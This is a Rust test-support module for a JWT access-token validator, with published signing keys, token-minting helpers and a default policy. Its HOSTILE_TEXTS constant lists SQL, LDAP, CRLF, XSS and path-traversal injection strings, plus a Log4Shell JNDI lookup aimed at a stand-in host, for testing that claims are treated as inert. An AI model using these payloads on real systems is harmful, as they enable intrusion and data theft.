//! What the tests share: published keys, a mint that signs any bytes, one policy, one time.

#![allow(dead_code, unreachable_pub, reason = "each test file is a crate that uses a part of it")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a panic is how a test fails")]

pub mod corpus;
pub mod options;
pub mod published_keys;
pub mod seeds;
pub mod sender;
pub mod statement_rows;

use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
use countersign_validator::{Code, KeySet, Policy, Refusal, RequiredScopes, UnixTime, VerifiedToken, verify};
use ed25519_dalek::Signer as _;
use jwt_compact::{
    Algorithm, AlgorithmSignature as _,
    alg::{Es256, Rsa, RsaPrivateKey},
};
use rsa::BigUint;
use serde_json::{Value, json};

pub const ISSUER: &str = "https://as.example.com";
pub const AUDIENCE: &str = "https://api.example.com";
pub const NOW: i64 = 1_800_000_000;

/// What is dangerous in some place where a careless program puts it; in a claim it is only text.
pub const HOSTILE_TEXTS: [&str; 8] = [
    "' OR 1=1 --",
    "*)(uid=*))(|(uid=*",
    "../../etc/passwd",
    "a\r\nSet-Cookie: x=y",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "__proto__",
    "\u{202e}\0",
];

/// A private key of the specifications, by the `kid` that it has in [`key_set`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Signer {
    Rsa,
    P256,
    Ed25519,
}

pub const SIGNERS: [Signer; 3] = [Signer::Rsa, Signer::P256, Signer::Ed25519];

impl Signer {
    pub fn algorithm(self) -> &'static str {
        match self {
            Self::Rsa => "RS256",
            Self::P256 => "ES256",
            Self::Ed25519 => "EdDSA",
        }
    }

    pub fn kid(self) -> &'static str {
        match self {
            Self::Rsa => "rsa",
            Self::P256 => "ec",
            Self::Ed25519 => "ed",
        }
    }

    pub fn jwk(self) -> Value {
        use published_keys as keys;
        match self {
            Self::Rsa => json!({"kty": "RSA", "kid": "rsa", "n": keys::RSA_N, "e": "AQAB"}),
            Self::P256 => json!({"kty": "EC", "kid": "ec", "crv": "P-256", "x": keys::P256_X, "y": keys::P256_Y}),
            Self::Ed25519 => json!({"kty": "OKP", "kid": "ed", "crv": "Ed25519", "x": keys::ED25519_X}),
        }
    }

    pub fn sign(self, input: &[u8]) -> Vec<u8> {
        use published_keys as keys;
        match self {
            Self::Rsa => sign_rsa(&Rsa::rs256(), input),
            Self::P256 => {
                let key = p256::ecdsa::SigningKey::from_slice(&decode(keys::P256_D)).unwrap();
                Es256.sign(&key, input).as_bytes().into_owned()
            }
            Self::Ed25519 => {
                let seed: [u8; 32] = decode(keys::ED25519_D).try_into().unwrap();
                ed25519_dalek::SigningKey::from_bytes(&seed).sign(input).to_bytes().to_vec()
            }
        }
    }
}

/// The RSA key is for six algorithms.
pub fn sign_rsa(algorithm: &Rsa, input: &[u8]) -> Vec<u8> {
    use published_keys as keys;
    let number = |text| BigUint::from_bytes_be(&decode(text));
    let primes = vec![number(keys::RSA_P), number(keys::RSA_Q)];
    let key = RsaPrivateKey::from_components(number(keys::RSA_N), 65537_u32.into(), number(keys::RSA_D), primes);
    algorithm.sign(&key.unwrap(), input).as_bytes().into_owned()
}

pub fn encode(bytes: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

pub fn decode(text: &str) -> Vec<u8> {
    URL_SAFE_NO_PAD.decode(text).unwrap()
}

/// Signs these very bytes.
pub fn mint_bytes(signer: Signer, header: &[u8], claims: &[u8]) -> String {
    let input = format!("{}.{}", encode(header), encode(claims));
    let signature = encode(signer.sign(input.as_bytes()));
    format!("{input}.{signature}")
}

pub fn mint(signer: Signer, header: &Value, claims: &Value) -> String {
    mint_bytes(signer, header.to_string().as_bytes(), claims.to_string().as_bytes())
}

pub fn good_header(signer: Signer) -> Value {
    json!({"typ": "at+jwt", "alg": signer.algorithm(), "kid": signer.kid()})
}

/// The claims that RFC 9068 §2.2 requires, and a scope.
pub fn good_claims() -> Value {
    json!({
        "iss": ISSUER, "aud": AUDIENCE, "sub": "reports-job", "client_id": "reports-job", "jti": "1",
        "iat": NOW - 10, "exp": NOW + 300, "scope": "read write",
    })
}

/// `base` with `member` set to `value`, or removed if `value` is `null` in Rust terms (`None`).
pub fn with(mut base: Value, member: &str, value: impl Into<Option<Value>>) -> Value {
    let object = base.as_object_mut().unwrap();
    match value.into() {
        Some(value) => object.insert(member.to_owned(), value),
        None => object.remove(member),
    };
    base
}

pub fn good_token(signer: Signer) -> String {
    mint(signer, &good_header(signer), &good_claims())
}

pub fn key_set_json() -> String {
    json!({"keys": SIGNERS.map(Signer::jwk)}).to_string()
}

pub fn key_set() -> KeySet {
    KeySet::from_json(key_set_json().as_bytes()).unwrap()
}

pub fn policy() -> Policy {
    Policy::new(ISSUER, [AUDIENCE]).unwrap().with_tolerance_seconds(0).unwrap()
}

pub fn now() -> UnixTime {
    UnixTime::from_seconds(NOW)
}

/// The one place that calls `verify` with the shared keys.
pub fn judge(token: &str, policy: &Policy, scopes: &[&str], now: UnixTime) -> Result<VerifiedToken, Refusal> {
    let required = RequiredScopes::all_of(scopes.iter().copied()).unwrap();
    verify(token.as_bytes(), policy, &key_set(), &required, now)
}

#[track_caller]
pub fn assert_accepted(token: &str, policy: &Policy) {
    if let Err(refusal) = judge(token, policy, &[], now()) {
        panic!("refused: {refusal}");
    }
}

#[track_caller]
pub fn assert_refused(token: &str, policy: &Policy, code: Code) {
    let refusal = judge(token, policy, &[], now()).expect_err("accepted");
    assert_eq!(refusal.code(), code, "{refusal}");
}
